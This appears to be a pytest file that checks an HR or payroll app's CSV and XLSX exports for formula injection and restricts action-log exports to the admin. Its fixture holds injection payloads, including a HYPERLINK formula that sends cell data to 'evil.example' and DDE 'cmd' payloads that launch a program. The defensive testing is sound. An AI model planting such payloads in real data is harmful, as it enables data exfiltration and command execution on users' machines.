"""A spreadsheet: names that are formulas must stay text in everything that is taken out of the house, through the real routes."""

import csv
import io
import re
import urllib.request
import zipfile

import pytest

from instance import Api, Instance

formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Hisob")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


def fetch(api: Api, path: str) -> bytes:
    request = urllib.request.Request(f"{api.address}/api/v1{path}", headers={"Authorization": f"Bearer {api.token}"})
    with urllib.request.urlopen(request, timeout=120) as answer:
        return answer.read()


@pytest.fixture
def poisoned(fresh_server) -> Instance:
    """A firm in which people, a department and a client are named after formulas, and one of them has done something."""
    server = fresh_server
    server.sql(f"UPDATE account SET name = $x${formulas[0]}$x$ WHERE login = 'nodira'")
    server.sql(f"UPDATE account SET name = $x${formulas[1]}$x$ WHERE login = 'sardor'")
    server.sql(f"UPDATE organisation SET name = $x${formulas[2]}$x$ WHERE id = (SELECT min(id) FROM organisation)")
    server.sql(f"UPDATE department SET name = $x${formulas[3]}$x$ WHERE id = (SELECT min(id) FROM department)")
    server.api("nodira")
    server.api("sardor")
    return server


def month(server: Instance) -> str:
    return server.sql("SELECT to_char(now() AT TIME ZONE 'Asia/Tashkent', 'YYYY-MM')")


def test_no_export_carries_a_formula(poisoned):
    api = poisoned.api("admin")
    now = month(poisoned)
    paths = [
        "/actions/export?format={}", "/exports/users?format={}", "/exports/organisations?format={}",
        f"/figures/export?month={now}&format={{}}", f"/months/{now}/payroll?format={{}}",
    ]  # fmt: skip
    seen = set()
    for path in paths:
        if "payroll" not in path and "figures" not in path:
            text = fetch(api, path.format("csv")).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text), delimiter=";" if ";" in text.splitlines()[0] else ","):
                for cell in row:
                    assert not re.match(r"[=+\-@\t\r]", cell) or re.fullmatch(r"[+-]?[\d.,]+", cell), f"{path}: {cell}"
                    seen.update(formula for formula in formulas if cell == f"'{formula}")
        archive = zipfile.ZipFile(io.BytesIO(fetch(api, path.format("xlsx"))))
        sheets = [archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name]
        assert sheets
        for sheet in sheets:
            # The sums of a sheet of ours aside, which name cells and nothing else.
            for formula in re.findall(r"<f>(.*?)</f>", sheet):
                assert re.fullmatch(r"(SUM|SUBTOTAL)\([A-Z0-9:,]+\)", formula), f"{path}: {formula}"
            assert "<hyperlink" not in sheet
    # They were there to be found, as text.
    assert set(formulas[:3]) <= seen, seen


def test_an_export_is_a_row_of_the_log_and_for_the_admin_alone(poisoned):
    from instance import Refused

    before = int(poisoned.sql("SELECT count(*) FROM action_log WHERE action = 'action_log.export'"))
    for login in ("gulnora", "nodira", "sardor"):
        with pytest.raises(Refused) as refusal:
            poisoned.api(login).get("/actions/export?format=csv")
        assert refusal.value.status == 403
    fetch(poisoned.api("admin"), "/actions/export?format=csv&action=session.start")
    assert int(poisoned.sql("SELECT count(*) FROM action_log WHERE action = 'action_log.export'")) == before + 1
